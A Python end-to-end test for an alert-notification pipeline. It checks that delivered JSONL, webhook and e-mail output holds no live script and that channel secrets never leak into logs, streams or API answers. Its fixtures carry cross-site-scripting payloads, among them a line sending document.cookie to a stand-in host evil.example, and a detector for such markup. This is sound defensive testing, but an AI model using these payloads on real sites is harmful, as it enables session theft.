"""End to end, hostile input and channel secrets: ingest, classify and notify as OS processes over a real
Redis, authentication on, the channels real (a JSONL file, a signed webhook to a local server, e-mail to
a local SMTP server through Apprise).

* A posted JSON alert and a posted RSS item carry ``<script>``, ``javascript:`` links and event-handler
  attributes; what is delivered (the JSONL line, the webhook's JSON, the HTML e-mail) holds no live
  script: no ``<script>`` element, no ``on*=`` attribute, no ``javascript:`` link.
* The subscription's channel secrets (a webhook ``?secret=``, an SMTP password, a second webhook that
  cannot be reached so its failure path runs too) never appear in ``vigil.notifications``, the dead
  letters, any stream, the processes' logs (notify at DEBUG) or the API's answers.
"""

from __future__ import annotations

import json
import os
import time
from collections.abc import Iterator
from contextlib import ExitStack
from dataclasses import dataclass, field
from email import message_from_bytes, policy
from email.message import EmailMessage
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import httpx
import pytest
import redis as redis_sync
from vigil_shared import streams
from vigil_shared.auth import hash_key, new_key
from vigil_shared.demo import pipeline_drained, service_process, wait_ready
from vigil_shared.embedded_redis import free_port

from .httpserver import local_http_server

pytestmark = [pytest.mark.e2e, pytest.mark.slow]

HOOK_SECRET = "HOOK-SECRET-e2e-7f3a9c"
DEAD_HOOK_SECRET = "DEAD-HOOK-SECRET-e2e-41b2"
MAIL_PASSWORD = "MAIL-PASSWORD-e2e-92c4d"
SECRETS = (HOOK_SECRET, DEAD_HOOK_SECRET, MAIL_PASSWORD)

JSON_ALERT = {
    "title": 'Bomb threat in the Moscow metro <script>alert("title")</script>',
    "text": (
        "<p>Police evacuated the metro station in Moscow after a bomb threat.</p>"
        "<script>document.location='https://evil.example/?c='+document.cookie</script>"
        '<a href="javascript:alert(1)">details</a> <img src=x onerror="alert(2)">'
        '<iframe src="javascript:alert(3)"></iframe>'
    ),
    "source": "hostile-test",
}
RSS = b"""<?xml version="1.0"?>
<rss version="2.0"><channel><title>Hostile feed</title><link>https://feed.example/</link>
<item>
  <title>Bomb threat at a Moscow railway station &lt;script&gt;alert(5)&lt;/script&gt;</title>
  <link>javascript:alert(4)</link>
  <guid>hostile-rss-1</guid>
  <description>&lt;script&gt;alert(6)&lt;/script&gt;Police evacuated the Kursky railway station in Moscow
  after a bomb threat. &lt;a href="javascript:alert(7)"&gt;more&lt;/a&gt;
  &lt;svg onload="alert(8)"&gt;&lt;/svg&gt;</description>
</item></channel></rss>
"""


class _LiveMarkup(HTMLParser):
    """Collects what a browser or mail client would execute: script elements, event-handler attributes,
    ``javascript:`` (or ``data:``/``vbscript:``) URLs in link/source attributes."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.live: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in {"script", "iframe", "object", "embed", "svg"}:
            self.live.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.live.append(f"{tag} {name}=")
            v = (value or "").strip().lower().replace("\t", "").replace("\n", "")
            if name in {"href", "src", "action", "formaction", "xlink:href"} and v.startswith(
                ("javascript:", "vbscript:", "data:")
            ):
                self.live.append(f"{tag} {name}={value}")


def live_markup(html: str) -> list[str]:
    parser = _LiveMarkup()
    parser.feed(html)
    parser.close()
    return parser.live


@dataclass
class _Mailbox:
    port: int
    messages: list[EmailMessage] = field(default_factory=list)


@pytest.fixture
def smtp() -> Iterator[_Mailbox]:
    from aiosmtpd.controller import Controller

    box = _Mailbox(port=free_port())

    class Handler:
        async def handle_DATA(self, server: Any, session: Any, envelope: Any) -> str:
            box.messages.append(message_from_bytes(envelope.content, policy=policy.default))  # type: ignore[arg-type]
            return "250 Message accepted"

    controller = Controller(Handler(), hostname="127.0.0.1", port=box.port)
    controller.start()
    try:
        yield box
    finally:
        controller.stop()


@dataclass
class Run:
    ingest: str
    notify: str
    workdir: Path
    headers: dict[str, str]
    hook_requests: list[tuple[str, str, bytes]]


@pytest.fixture
def pipeline(redis_url: str, tmp_path: Path, smtp: _Mailbox) -> Iterator[Run]:
    key = new_key()
    with local_http_server() as (hook_base, hook_server):
        channels = [
            "jsonl://notifications.jsonl",
            f"webhook+{hook_base}/hook?secret={HOOK_SECRET}",
            # nothing listens there: temporary failures, retries, then a dead letter
            f"webhook+http://127.0.0.1:{free_port()}/gone?secret={DEAD_HOOK_SECRET}",
            f"mailto://127.0.0.1:{smtp.port}?to=traveller@example.com&from=vigil@example.com",
            # the local server offers no AUTH: the send fails, through the error path
            f"mailto://vigil:{MAIL_PASSWORD}@127.0.0.1:{smtp.port}?to=desk@example.com&from=vigil@example.com",
        ]
        subs = tmp_path / "subscriptions.yaml"
        subs.write_text(
            json.dumps(
                {
                    "subscriptions": [
                        {
                            "id": "moscow-desk",
                            "name": "Moscow desk",
                            "owner": "desk@example.org",
                            "channels": channels,
                            "filter": {"places": ["Moscow, RU"]},
                        }
                    ]
                }
            )
        )
        ports = {name: free_port() for name in ("ingest", "classify", "notify")}
        env_base = {
            **os.environ,
            "REDIS_URL": redis_url,
            "VIGIL_LOG_FORMAT": "json",
            "VIGIL_LOG_LEVEL": "DEBUG",
            "VIGIL_HTTP_HOST": "127.0.0.1",
            "VIGIL_NOTIFY_SUBSCRIPTIONS_FILE": str(subs),
            "VIGIL_NOTIFY_MAX_ATTEMPTS": "2",
            "VIGIL_NOTIFY_BACKOFF_BASE_S": "0.1",
            "VIGIL_NOTIFY_SEND_TIMEOUT_S": "5",
            "VIGIL_OUTBOUND_ALLOWLIST": "127.0.0.1",
            "VIGIL_AUTH_DISABLED": "false",
            "VIGIL_API_KEYS": f"ops:admin:{hash_key(key).hex()}",
        }
        with ExitStack() as stack:
            procs = {}
            for name, port in ports.items():
                env = {**env_base, "VIGIL_HTTP_PORT": str(port)}
                procs[name] = stack.enter_context(service_process(name, env, tmp_path))
            for name, proc in procs.items():
                wait_ready(f"http://127.0.0.1:{ports[name]}", proc, name, tmp_path)
            yield Run(
                f"http://127.0.0.1:{ports['ingest']}",
                f"http://127.0.0.1:{ports['notify']}",
                tmp_path,
                {"Authorization": f"Bearer {key}"},
                hook_server.requests,  # type: ignore[attr-defined]
            )


def _drain(redis_url: str, timeout: float = 90) -> None:
    client = redis_sync.Redis.from_url(redis_url)
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if pipeline_drained(client):
            return
        time.sleep(0.2)
    raise AssertionError("the pipeline did not drain")


def _stream_text(client: redis_sync.Redis, stream: str) -> str:
    return "\n".join(
        f"{k.decode(errors='replace')}={v.decode(errors='replace')}"
        for _, fields in client.xrange(stream)
        for k, v in fields.items()
    )


def test_hostile_alerts_and_channel_secrets_end_to_end(pipeline: Run, redis_url: str, smtp: _Mailbox) -> None:
    api = httpx.Client(headers=pipeline.headers, timeout=15)
    posted = api.post(f"{pipeline.ingest}/v1/alerts", json=JSON_ALERT)
    assert posted.status_code == 202, posted.text
    fed = api.post(f"{pipeline.ingest}/v1/alerts", content=RSS, headers={"Content-Type": "application/rss+xml"})
    assert fed.status_code == 202, fed.text
    alert_ids = {posted.json()["alert_id"], fed.json()["alert_id"]}
    _drain(redis_url)
    client = redis_sync.Redis.from_url(redis_url)

    # ---- delivered: JSONL, webhook JSON, HTML e-mail -- both alerts, no live script in any of them
    lines = [json.loads(x) for x in (pipeline.workdir / "notifications.jsonl").read_text().splitlines()]
    classified = _stream_text(client, streams.ALERTS_CLASSIFIED)
    assert {x["alert_id"] for x in lines} == alert_ids, (posted.json(), fed.json(), lines, classified[:3000])
    hooks = [body for method, path, body in pipeline.hook_requests if method == "POST" and path.startswith("/hook")]
    assert len(hooks) == 2
    deadline = time.monotonic() + 10
    while len(smtp.messages) < 2 and time.monotonic() < deadline:
        time.sleep(0.1)
    assert len(smtp.messages) == 2, [m["To"] for m in smtp.messages]
    assert {m["To"] for m in smtp.messages} == {"traveller@example.com"}  # the AUTH one failed
    for mail in smtp.messages:
        html = mail.get_body(("html",))
        assert html is not None, "Apprise's mailto sends HTML"
        content = html.get_content()
        assert live_markup(content) == [], content
        assert "<script" not in content.lower()
        assert "moscow" in content.lower()
    for doc in [*lines, *(json.loads(b) for b in hooks)]:
        text = json.dumps(doc)
        assert "<script" not in text.lower(), text
        assert "onerror" not in text, text
        assert "onload" not in text, text
        assert "javascript:" not in text.lower(), text  # not even as a link target in data
        for value in _strings(doc):
            assert live_markup(value) == [], value
    assert "document.cookie" not in "\n".join(json.dumps(x) for x in lines)

    # ---- secrets: nowhere in streams, dead letters, logs, API answers or the webhook's request line
    events = _stream_text(client, streams.NOTIFICATIONS)
    assert "notification.failed" in events, "the failure paths ran"
    dead = _stream_text(client, streams.DEADLETTER)
    answers = [
        api.get(f"{pipeline.notify}/v1/subscriptions"),
        api.get(f"{pipeline.notify}/v1/subscriptions/moscow-desk"),
        api.put(
            f"{pipeline.notify}/v1/subscriptions/moscow-desk",
            json={
                "id": "moscow-desk",
                "channels": [f"webhook+https://h.example/x?secret={HOOK_SECRET}"],
                "filter": {"min_severity": "Nope"},
            },
        ),
    ]
    assert [r.status_code for r in answers] == [200, 200, 422]
    assert "****" in answers[1].text
    haystack = "\n".join(
        [
            events,
            dead,
            _stream_text(client, streams.ALERTS_RECEIVED),
            _stream_text(client, streams.ALERTS_CLASSIFIED),
            *(r.text for r in answers),
            *((pipeline.workdir / f"{n}.log").read_text(errors="replace") for n in ("ingest", "classify", "notify")),
            *(path for _, path, _ in pipeline.hook_requests),
            *(x.decode(errors="replace") for _, _, x in pipeline.hook_requests),
            (pipeline.workdir / "notifications.jsonl").read_text(),
        ]
    )
    for secret in SECRETS:
        assert secret not in haystack, f"{secret} leaked"
    notify_log = (pipeline.workdir / "notify.log").read_text(errors="replace")
    assert "moscow-desk" in notify_log  # (VIGIL_LOG_LEVEL=DEBUG: everything notify logs was searched)


def _strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for v in value.values():
            yield from _strings(v)
    elif isinstance(value, list):
        for v in value:
            yield from _strings(v)
